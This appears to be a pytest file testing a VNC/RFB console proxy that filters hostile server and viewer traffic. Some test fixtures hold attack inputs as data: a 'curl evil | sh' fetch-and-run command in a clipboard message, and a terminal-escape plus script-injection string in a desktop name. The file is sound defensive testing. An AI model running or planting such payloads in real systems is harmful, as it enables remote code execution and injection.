# Copyright (c) 2026 Fleet Virt contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What passes of a screen: bytes that a hostile one may send, and those of real viewers."""

from __future__ import annotations

import random
import struct

import pytest
from ansible_collections.fleet.virt.plugins.module_utils._fleet.console import rfb

_VERSION = b"RFB 003.008\n"
# 32 bits, depth 24, little endian, true colour
_FORMAT = struct.pack("!BBBBHHHBBB3x", 32, 24, 0, 1, 255, 255, 255, 16, 8, 0)
_KEY = struct.pack("!BBxxI", 4, 1, ord("a"))
_ASK = struct.pack("!BBHHHH", 3, 0, 0, 0, 640, 480)


def _init(width: int = 640, height: int = 480, name: bytes = b"QEMU (web1)") -> bytes:
    return struct.pack("!HH", width, height) + _FORMAT + struct.pack("!I", len(name)) + name


def _opened(security: int = 1) -> rfb.Gate:
    """A gate whose sides have shaken hands."""
    gate = rfb.Gate("web1 on hv1")
    assert gate.from_server(_VERSION + bytes([1, security])) == _VERSION + bytes([1, security])
    assert gate.from_viewer(_VERSION + bytes([security])) == _VERSION + bytes([security])
    if security == 2:
        assert gate.from_server(bytes(16)) == bytes(16)
        assert gate.from_viewer(b"x" * 16) == b"x" * 16
    assert gate.from_server(bytes(4)) == bytes(4)
    assert gate.from_viewer(b"\0") == b"\1", "it is shared"
    told = gate.from_server(_init())
    assert told == _init(name=b"web1 on hv1")
    assert gate.open
    return gate


def _frame(width: int, height: int, encoding: int, content: bytes = b"") -> bytes:
    return struct.pack("!BxHHHHHi", 0, 1, 0, 0, width, height, encoding) + content


@pytest.mark.parametrize("security", [1, 2])
def test_hands_are_shaken(security: int) -> None:
    gate = _opened(security)
    assert gate.from_viewer(_KEY) == _KEY


_PICTURES = [
    _frame(2, 2, 0, bytes(16)),
    _frame(2, 2, 1, bytes(4)),
    _frame(2, 2, 16, struct.pack("!I", 5) + b"12345"),
    _frame(9, 2, -239, bytes(9 * 2 * 4 + 2 * 2)),
    _frame(800, 600, -223),
    _frame(800, 600, -308, b"\1\0\0\0" + bytes(16)),
    _frame(640, 480, -258),
    _frame(640, 480, -261, b"\7"),
    _frame(64, 64, 7, b"\x80abc"),  # one colour
    _frame(64, 64, 7, b"\x90\x81\x02" + bytes(257)),  # JPEG
    _frame(64, 64, 7, b"\0\x81\x82\x01" + bytes(1 + 256 + 16384)),  # packed
    _frame(64, 64, 7, b"\x40\1\1abcdef\x03xyz"),  # two colours, packed
    _frame(8, 2, 7, b"\x40\1\1abcdefxy"),  # two colours, too few to be packed
    _frame(3, 1, 7, b"\x40\0abcdefghi"),
    struct.pack("!BxH", 0, 0xFFFF) + _frame(2, 2, 0, bytes(16))[4:] + _frame(0, 0, -224)[4:],
    struct.pack("!BxHH", 1, 0, 2) + bytes(12),
]


@pytest.mark.parametrize("picture", _PICTURES)
def test_pictures_pass_however_they_are_cut(picture: bytes) -> None:
    chance = random.Random(len(picture))  # noqa: S311
    for _ in range(5):
        gate, passed, sent = _opened(), b"", picture * 2
        while sent:
            size = chance.randint(1, 40)
            passed += gate.from_server(sent[:size])
            sent = sent[size:]
        assert passed == picture * 2


def test_neither_side_reaches_the_others_clipboard() -> None:
    gate = _opened()
    text = b"curl evil | sh\n"
    cut = struct.pack("!B3xi", 3, len(text)) + text
    extended = struct.pack("!B3xi", 3, -len(text)) + text
    bell = b"\2"
    assert gate.from_server(cut + bell + extended + _PICTURES[0]) == _PICTURES[0]
    paste = struct.pack("!B3xi", 6, len(text)) + text
    assert gate.from_viewer(paste + _KEY) == _KEY


def test_only_encodings_that_can_be_followed_are_asked_for() -> None:
    gate = _opened()
    # hextile, RRE, the desktop's name, the extended clipboard, TightPNG, sound
    given = [7, 5, 2, 0, -307, -1063131698, -260, -259, -258, -239, -26]
    kept = [7, 0, -258, -239, -26]
    asked = struct.pack(f"!BxH{len(given)}i", 2, len(given), *given)
    assert gate.from_viewer(asked) == struct.pack(f"!BxH{len(kept)}i", 2, len(kept), *kept)


def test_colours_are_set_before_pictures_are_asked_for() -> None:
    gate = _opened()
    small = struct.pack("!B3x", 0) + struct.pack("!BBBB", 8, 8, 0, 1) + _FORMAT[4:]
    assert gate.from_viewer(small) == small
    picture = _frame(2, 2, 0, bytes(4))
    assert gate.from_server(picture) == picture
    gate.from_viewer(_ASK)
    with pytest.raises(rfb.Refused, match="changes its colours"):
        gate.from_viewer(small)


@pytest.mark.parametrize(
    ("said", "why"),
    [
        (_frame(65535, 65535, 0), "65535x65535 pixels"),
        (_frame(16000, 16000, -223), "16000x16000 pixels"),
        (_frame(2000, 2000, -239), "a pointer of 2000x2000"),
        (_frame(2, 2, 16, b"\xff\xff\xff\xff"), "a picture of 4294967295 bytes"),
        (_frame(2, 2, 5), "encoding that was not requested"),
        (_frame(2, 2, -307), "encoding that was not requested"),
        (_frame(2, 2, 7, b"\xf0"), "unknown compression"),
        (_frame(2, 2, 7, b"\x40\x09"), "unknown filter"),
        (struct.pack("!B3xi", 3, 2**31 - 1), "a clipboard of 2147483647 bytes"),
        (b"\xff\1\0\0", "a message of type 255"),
        (b"\x1b]0;evil\a", "a message of type 27"),
    ],
)
def test_what_no_screen_says_ends_it(said: bytes, why: str) -> None:
    with pytest.raises(rfb.Hostile, match=why):
        _opened().from_server(said)


@pytest.mark.parametrize(
    ("said", "why"),
    [
        (b"SSH-2.0-OpenSSH_9.2", "is not a screen"),
        (b"RFB 003.003\n", "is not a screen"),
        (_VERSION + b"\1\1hello", "sends data before it is asked"),
    ],
)
def test_what_is_no_screen(said: bytes, why: str) -> None:
    gate = rfb.Gate("web1")
    with pytest.raises(rfb.Hostile, match=why):
        gate.from_server(said)


@pytest.mark.parametrize(("width", "height"), [(65535, 65535), (20000, 1)])
def test_a_screen_that_is_too_large(width: int, height: int) -> None:
    gate = rfb.Gate("web1")
    gate.from_server(_VERSION + b"\1\1")
    gate.from_viewer(_VERSION + b"\1\0")
    with pytest.raises(rfb.Hostile, match=f"{width}x{height} pixels"):
        gate.from_server(bytes(4) + _init(width, height))


def test_a_name_is_never_passed_on() -> None:
    gate = rfb.Gate("web1 on hv1")
    gate.from_server(_VERSION + b"\1\1")
    gate.from_viewer(_VERSION + b"\1\0")
    evil = b"\x1b]0;evil\a<script>alert(1)</script>" * 100
    told = gate.from_server(bytes(4) + _init(name=evil))
    assert told == bytes(4) + _init(name=b"web1 on hv1")
    gate = rfb.Gate("web1 on hv1")
    gate.from_server(_VERSION + b"\1\1")
    gate.from_viewer(_VERSION + b"\1\0")
    with pytest.raises(rfb.Hostile, match="a name of 4294967295 bytes"):
        gate.from_server(bytes(4) + _init()[:20] + b"\xff" * 4)


def test_who_may_not_look() -> None:
    gate = rfb.Gate("web1")
    with pytest.raises(rfb.Refused, match="asks for a certificate"):
        gate.from_server(_VERSION + b"\1\x13")
    gate = rfb.Gate("web1")
    with pytest.raises(rfb.Refused, match="refuses all clients"):
        gate.from_server(_VERSION + b"\0" + struct.pack("!I", 4) + b"many")
    gate = rfb.Gate("web1")
    gate.from_server(_VERSION + b"\2\x13\2")
    with pytest.raises(rfb.Refused, match="kind of authentication"):
        gate.from_viewer(_VERSION + b"\1")
    gate = rfb.Gate("web1")
    gate.from_server(_VERSION + b"\1\2")
    gate.from_viewer(_VERSION + b"\2" + bytes(16))
    with pytest.raises(rfb.Refused, match="wrong, or no longer valid"):
        gate.from_server(bytes(16) + struct.pack("!II", 1, 5) + b"never")
    assert gate.farewell.endswith(b"the password is wrong, or no longer valid")
    with pytest.raises(rfb.Refused, match="too old"):
        rfb.Gate("web1").from_viewer(b"RFB 003.003\n")
    for said, why in ((b"\xff\1\0\1", "asks for sound"), (b"\x96", "a message of type 150")):
        with pytest.raises(rfb.Refused, match=why):
            _opened().from_viewer(said)


def test_noise_never_passes_unread() -> None:
    """Whatever is said, it ends with one of our errors or waits for more."""
    chance = random.Random(19)  # noqa: S311
    ended = 0
    for _ in range(300):
        gate = _opened()
        try:
            for _block in range(20):
                gate.from_server(chance.randbytes(200))
        except rfb.Hostile:
            ended += 1
    assert ended > 250
